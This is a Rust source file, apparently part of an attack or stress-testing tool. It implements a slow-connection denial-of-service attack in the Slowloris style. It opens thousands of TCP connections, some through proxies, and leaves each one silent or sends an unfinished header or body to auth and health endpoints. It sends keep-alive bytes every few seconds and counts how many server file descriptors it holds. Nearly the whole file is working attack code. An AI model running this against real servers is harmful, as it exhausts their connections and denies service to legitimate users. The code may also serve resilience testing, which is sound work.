//! Connections that the stranger holds: silent, slow and busy with nothing, as many as the server lets in.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::attack::End;
use crate::line::{Line, Way};
use crate::measure::Meter;

/// How many connections one address tries to hold: more than there may be in all.
const OF_ONE: usize = 11_000;

/// How many all of them try to hold. With as many addresses as there are places, and enough patience, a server of any
/// kind can be kept busy; this is some for each.
const OF_MANY: usize = 5_000;

/// How many a proxy passes on at once. It waits for the head of a request itself.
const OF_PROXY: usize = 1_000;

/// How many are opened before it is looked after those that are there.
const BATCH: usize = 400;

/// Holds connections until it is over, and says how many the server had at the most. Those that it has not taken yet, or
/// has turned away a moment ago, are not its own.
pub fn hold(lines: &[Line], way: Way, meter: &Meter, end: &End) -> usize {
    let before = meter.open_files();
    let wanted = match (way, lines.len()) {
        (Way::Proxy, _) => OF_PROXY,
        (Way::Direct, 1) => OF_ONE,
        (Way::Direct, _) => OF_MANY,
    };
    let mut held: Vec<TcpStream> = Vec::new();
    let mut most = 0;
    let mut number = 0;
    let mut beat = Instant::now();
    while !end.is_here() {
        for _ in 0..BATCH.min(wanted.saturating_sub(held.len())) {
            number += 1;
            held.extend(open(&lines[number % lines.len()], way, number));
        }
        held.retain_mut(is_open);
        // A byte of a body that never ends, or a request more, every few seconds.
        if beat.elapsed() > Duration::from_secs(3) {
            beat = Instant::now();
            for stream in &mut held {
                let _ = stream.write(b"\n");
            }
        }
        std::thread::sleep(Duration::from_millis(100));
        // Those that have no place have been turned away by now, but for some that came a moment ago.
        most = most.max(meter.open_files().saturating_sub(before));
    }
    most
}

/// One more, which is in the middle of something.
fn open(line: &Line, way: Way, number: usize) -> Option<TcpStream> {
    let mut stream = line.connect(Duration::from_millis(200))?;
    let kinds = match way {
        Way::Direct => number % 5,
        Way::Proxy => 2 + number % 3,
    };
    let begun = match kinds {
        // Says nothing.
        0 => String::new(),
        // A head that does not end.
        1 => line.head("POST", "/auth/register", "X-Slow:"),
        // A body that does not end.
        2 => line.head(
            "POST",
            "/auth/register",
            "Content-Type: application/json\r\nContent-Length: 9999\r\n\r\n{",
        ),
        3 => line.head(
            "POST",
            "/auth/token",
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9999\r\n\r\na=",
        ),
        // Asks, and stays.
        _ => line.head("GET", "/healthz", "\r\n"),
    };
    let _ = stream.write_all(begun.as_bytes());
    stream.set_nonblocking(true).ok()?;
    Some(stream)
}

/// Whether the server has not closed it. What it said is thrown away.
fn is_open(stream: &mut TcpStream) -> bool {
    let mut said = [0; 4096];
    loop {
        match stream.read(&mut said) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == ErrorKind::WouldBlock,
        }
    }
}
